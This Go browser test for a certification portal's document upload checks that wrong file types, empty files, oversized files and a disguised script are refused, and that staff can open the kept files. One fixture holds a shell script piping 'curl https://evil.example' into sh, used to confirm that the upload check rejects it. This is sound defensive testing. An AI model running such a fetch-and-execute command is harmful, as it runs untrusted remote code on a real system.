package browser

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	"github.com/cecportal/cecportal/internal/localstack"
)

// TestBrowser_Documents: a holder on a phone attaches a photo of a
// certificate and a PDF to a self-reported activity; files the
// association cannot keep are refused on the field, in words, each by
// its name (a text file, an empty file, one over 10MB before sending; a
// script named .pdf after the check), and nothing of them is kept; a file
// can be removed; the submission carries the two files; staff open each
// from the review queue in a new tab (issue 17).
func TestBrowser_Documents(t *testing.T) {
	s := start(t, localstack.Config{})
	staffTok := s.token(t, "office", "staff", "office@example.org")
	deeTok := s.token(t, "dee", "", "dee@example.com")
	var dee struct{ HolderID string }
	s.api(t, "POST", "/holders", deeTok, map[string]any{"firstName": "Dee", "lastName": "Docs", "email": "dee@example.com"}, 201, &dee)
	s.api(t, "PUT", "/holders/"+dee.HolderID+"/credentials", staffTok, map[string]any{"membership": "member",
		"credentials": []any{map[string]any{"code": "CAM", "earnedOn": "2020-06-01"}}}, 200, nil)
	s.setClock(t, "2027-03-12T09:00:00-05:00")

	dir := t.TempDir()
	photo := append([]byte{0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, 'J', 'F', 'I', 'F', 0}, bytes.Repeat([]byte{0x55}, 40000)...)
	pdf := append([]byte("%PDF-1.7\n1 0 obj\n"), bytes.Repeat([]byte("certificate "), 2000)...)
	file := func(name string, body []byte) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, body, 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	photoPath, pdfPath := file("IMG_2041.jpg", photo), file("Ethics certificate.pdf", pdf)
	extraPath := file("extra.pdf", pdf[:500])
	scriptPath := file("invoice.pdf", []byte("#!/bin/sh\ncurl https://evil.example | sh\n"))
	textPath, emptyPath := file("notes.txt", []byte("my notes")), file("empty.pdf", nil)
	bigPath := file("scan.pdf", append([]byte("%PDF-1.4\n"), make([]byte, 11<<20)...))

	holder := s.person(t, "holder", true)
	holder.signIn(t, "holder", "dee", "dee@example.com")
	holder.open(t, "#/holder/submit?year=2028")
	p := `#submission-form [name="activities[0].`
	input := chromedp.CSS(p + `documents"]`)
	entries := `#submission-form .attach ul.attached li`
	choose := func(what string, paths ...string) {
		holder.do(t, what, chromedp.SetUploadFiles(input, paths))
	}
	choose("attach a photo and a PDF", photoPath, pdfPath)
	holder.waitJS(t, "both files attached", fmt.Sprintf(`[...document.querySelectorAll(%s)].filter((li) => li.textContent.includes("Attached")).length === 2`, js(entries)))

	// Refused before sending, each by its name, in GOV.UK's words.
	choose("attach a text file, an empty file and an 11 MB scan", textPath, emptyPath, bigPath)
	errs := holder.errorOf(t, p+`documents"]`)
	for _, want := range []string{"notes.txt must be a PDF, JPG or PNG", "empty.pdf is empty", "scan.pdf must be smaller than 10MB"} {
		if !strings.Contains(errs, want) {
			t.Fatalf("the field's error %q does not say %q", errs, want)
		}
	}
	// Refused by the check after sending: a script named .pdf.
	choose("attach a script named .pdf", scriptPath)
	holder.waitJS(t, "the script refused", fmt.Sprintf(`document.querySelector(%s).closest(".field").querySelector(".error-text").textContent.includes("invoice.pdf must be a PDF, JPG or PNG")`, js(p+`documents"]`)))
	if n := eval[int](t, holder, "the files listed", fmt.Sprintf(`document.querySelectorAll(%s).length`, js(entries))); n != 2 {
		t.Fatalf("%d files listed after the refusals, want the 2 attached", n)
	}
	// One attached by mistake, then removed.
	choose("attach another PDF", extraPath)
	holder.waitJS(t, "the third file attached", fmt.Sprintf(`[...document.querySelectorAll(%s)].some((li) => li.textContent.includes("extra.pdf") && li.textContent.includes("Attached"))`, js(entries)))
	eval[bool](t, holder, "remove it", fmt.Sprintf(`(() => { [...document.querySelectorAll(%s)].find((li) => li.textContent.includes("extra.pdf")).querySelector("button").click(); return true; })()`, js(entries)))
	holder.waitJS(t, "the third file removed", fmt.Sprintf(`![...document.querySelectorAll(%s)].some((li) => li.textContent.includes("extra.pdf"))`, js(entries)))
	// On a slow line the upload shows its progress and can be cancelled:
	// nothing of it is attached.
	slowPath := file("slow scan.pdf", append([]byte("%PDF-1.7\n"), bytes.Repeat([]byte("s"), 1<<20)...))
	holder.throttleUploads(t, 64<<10)
	choose("attach a large scan on a slow line", slowPath)
	holder.waitJS(t, "the upload's progress", fmt.Sprintf(`[...document.querySelectorAll(%s)].some((li) => li.textContent.includes("slow scan.pdf") && li.querySelector("progress"))`, js(entries)))
	eval[bool](t, holder, "cancel it", fmt.Sprintf(`(() => { [...document.querySelectorAll(%s)].find((li) => li.textContent.includes("slow scan.pdf")).querySelector("button.cancel").click(); return true; })()`, js(entries)))
	holder.throttleUploads(t, -1)
	holder.waitJS(t, "the cancelled upload gone", fmt.Sprintf(`![...document.querySelectorAll(%s)].some((li) => li.textContent.includes("slow scan.pdf"))`, js(entries)))
	time.Sleep(time.Second) // nothing comes back to attach it
	if n := eval[int](t, holder, "the files listed", fmt.Sprintf(`document.querySelectorAll(%s).length`, js(entries))); n != 2 {
		t.Fatalf("%d files listed after the cancel, want the 2 attached", n)
	}
	holder.audit(t)
	noCodesShown(t, holder)

	holder.fill(t, p+`kind"]`, "association_course")
	holder.fill(t, p+`title"]`, "Fair housing")
	holder.fill(t, p+`organisation"]`, "Chapter 7")
	holder.fill(t, p+`date"]`, "2027-03-02")
	holder.fill(t, p+`hours"]`, "6")
	holder.click(t, p+`compliance"]`)
	holder.fill(t, p+`documentation.type"]`, "certificate_of_completion")
	// A refusal the holder may have missed stops the first submission, in
	// the summary; the next goes on without the refused file.
	choose("attach a text file at the last moment", textPath)
	holder.click(t, "#submission-form button[type=submit]")
	holder.waitText(t, "#submission-form .summary", "Some files were not attached")
	holder.waitText(t, "#submission-form .summary", "Not attached: notes.txt must be a PDF, JPG or PNG. Choose another file, or submit again without it")
	holder.click(t, "#submission-form button[type=submit]")
	holder.waitText(t, "#submission-received", "SUB-")
	subID := holder.text(t, "#submission-received .reference strong")

	// What was kept: the submission names the two files, nothing else of
	// the holder's is left (the refused and the removed are gone).
	var sub struct {
		Activities []struct {
			Documents []struct{ DocumentID, Name string }
		}
	}
	s.api(t, "GET", "/holders/me/submissions/"+subID, deeTok, nil, 200, &sub)
	var names []string
	for _, d := range sub.Activities[0].Documents {
		names = append(names, d.Name)
	}
	if got := strings.Join(names, ", "); got != "IMG_2041.jpg, Ethics certificate.pdf" && got != "Ethics certificate.pdf, IMG_2041.jpg" {
		t.Fatalf("the submission's files: %q", got)
	}
	holder.waitText(t, fmt.Sprintf(`#my-submissions [data-submission-id=%q]`, subID), "Open Ethics certificate.pdf")
	holder.audit(t)

	// Staff open each file from the review queue, in a new tab.
	office := s.person(t, "office", false)
	office.signIn(t, "staff", "office", "office@example.org")
	card := fmt.Sprintf(`#submission-queue article[data-submission-id=%q] `, subID)
	for deadline := time.Now().Add(actionTimeout); ; time.Sleep(200 * time.Millisecond) {
		office.open(t, "#/staff/submissions")
		if eval[bool](t, office, "the queue", fmt.Sprintf(`document.querySelector(%s) !== null`, js(card+"form"))) {
			break
		}
		if time.Now().After(deadline) {
			s.fail(t, office, "the submission in the review queue", fmt.Errorf("%s not in the queue", subID))
		}
	}
	office.audit(t)
	for _, d := range sub.Activities[0].Documents {
		want := pdf
		if strings.HasSuffix(d.Name, ".jpg") {
			want = photo
		}
		url := office.openInNewTab(t, fmt.Sprintf(`%sbutton.open-document[data-document-id=%q]`, card, d.DocumentID))
		res, err := http.Get(url)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if res.StatusCode != 200 || !bytes.Equal(body, want) {
			t.Fatalf("the tab of %s opened %s: %d, %d bytes", d.Name, url, res.StatusCode, len(body))
		}
	}
}

// openInNewTab clicks sel, which opens a new tab, and returns the URL the
// tab was sent to.
func (p *person) openInNewTab(t *testing.T, sel string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(p.ctx, actionTimeout)
	defer cancel()
	urls := make(chan string, 4)
	chromedp.ListenBrowser(ctx, func(ev any) {
		if e, ok := ev.(*target.EventTargetInfoChanged); ok && e.TargetInfo.Type == "page" && strings.Contains(e.TargetInfo.URL, "/files/o/") {
			select {
			case urls <- e.TargetInfo.URL:
			default:
			}
		}
	})
	p.click(t, sel)
	select {
	case u := <-urls:
		return u
	case <-ctx.Done():
		p.s.fail(t, p, "a new tab on the file", ctx.Err())
		return ""
	}
}

// throttleUploads limits the tab's upload to bytesPerSecond (-1: no limit).
func (p *person) throttleUploads(t *testing.T, bytesPerSecond float64) {
	t.Helper()
	ctx, cancel := context.WithTimeout(p.ctx, actionTimeout)
	defer cancel()
	if _, err := chromedp.Call(ctx, network.Enable, network.EnableParams{}); err != nil {
		p.s.fail(t, p, "enable the network domain", err)
	}
	if _, err := chromedp.Call(ctx, network.EmulateNetworkConditionsByRule, network.EmulateNetworkConditionsByRuleParams{
		MatchedNetworkConditions: []*network.Conditions{{DownloadThroughput: -1, UploadThroughput: bytesPerSecond}}}); err != nil {
		p.s.fail(t, p, "throttle the uploads", err)
	}
}
